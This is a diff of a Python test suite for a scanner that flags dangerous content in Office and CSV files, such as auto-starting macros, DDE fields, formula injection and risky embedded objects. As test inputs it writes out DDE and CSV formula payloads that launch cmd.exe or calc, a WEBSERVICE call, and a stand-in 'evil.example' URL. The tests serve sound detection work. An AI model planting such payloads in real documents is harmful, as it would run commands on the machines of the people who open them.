@@ -40,6 +40,7 @@ def test_a_macro_that_starts_by_itself_is_told_with_its_words() -> None:
     assert looked.values("macros")["modules"] == "ThisDocument, Module1"
     assert looked.values("macro-starts-by-itself")["triggers"] == "AutoOpen"
     assert "WScript.Shell" in looked.values("macro-runs-programs")["calls"]
+    assert "powershell" in looked.values("macro-acts-at-once")["calls"]
     assert "http://evil.example/a" in looked.targets
     assert "Sub AutoOpen()" in looked.inspection.text
 
@@ -48,6 +49,14 @@ def test_macros_of_a_package_go_inside() -> None:
     project = office.vba_project({"M": DROPPER})
     looked = look(office.document(parts={"word/vbaProject.bin": project}), "a.docm")
     assert looked.inside == {"word/vbaProject.bin": project}
+
+
+def test_an_honest_macro_is_a_macro_and_no_attack() -> None:
+    """Sheets that fill themselves on opening are common in every office."""
+    source = 'Private Sub Workbook_Open()\n  Set d = CreateObject("Scripting.Dictionary")\nEnd Sub\n'
+    looked = look(office.vba_project({"ThisWorkbook": source}), "vbaProject.bin")
+    assert looked.kinds == {"macros", "macro-starts-by-itself", "macro-uses-other-programs"}
+    assert "high" not in looked.severities
 
 
 def test_a_comment_is_no_command() -> None:
@@ -83,7 +92,7 @@ def test_a_linked_page_is_told() -> None:
 
 def test_a_field_spread_over_runs_is_read_as_one() -> None:
     looked = look(office.document(office.field("DD", "EAUTO c:\\\\windows\\\\cmd.exe ", "/k calc")), "a.docx")
-    assert "cmd.exe" in looked.values("data-exchange")["command"]
+    assert "cmd.exe" in looked.values("data-exchange-starts-program")["command"]
 
 
 def test_the_words_of_a_document_are_kept() -> None:
@@ -113,9 +122,11 @@ def test_an_ordinary_workbook_is_quiet() -> None:
 
 def test_dde_is_told_wherever_it_stands() -> None:
     old = look(office.old_workbook(dde="cmd\x03/c calc"), "a.xls")
-    assert old.values("data-exchange")["command"] == "cmd|/c calc"
+    assert old.values("data-exchange-starts-program")["command"] == "cmd|/c calc"
     assert "formula-starts-program" in look(b"name,sum\r\nx,=cmd|'/c calc'!A0\r\n", "a.csv").kinds
     assert "formula-reaches-out" in look(b'a;=WEBSERVICE("https://a.example/"&A1)\n', "a.csv").kinds
+    feed = look(b"a;=PRICES|'EURUSD'!BID\n", "a.csv")
+    assert feed.kinds == {"data-exchange"}
     assert look(b"name,sum\r\nx,-12\r\ny,+49 30 1\r\nz,@home\r\n", "a.csv").kinds == set()
 
 
@@ -131,9 +142,9 @@ def test_embedded_files_go_inside_under_their_name() -> None:
 
 def test_objects_that_attacks_have_used_are_told() -> None:
     equation = compound({"WordDocument": b"x", "ObjectPool/_1/Equation Native": b"x"})
-    assert "dangerous-object" in look(equation, "a.doc").kinds
-    by_class = compound({"a/b": b"x"}, {"a": "0002CE02-0000-0000-C000-000000000046"})
-    assert "Equation" in look(by_class, "a.doc").values("dangerous-object")["object"]
+    assert look(equation, "a.doc").kinds == {"equation-object"}
+    by_class = compound({"a/b": b"x"}, {"a": "25336920-03F9-11CF-8FD0-00AA00686F13"})
+    assert "MSHTML" in look(by_class, "a.doc").values("dangerous-object")["object"]
 
 
 @pytest.mark.parametrize("noise", ["", "{\\junk 12}", "\\'41 ", "\r\n"])
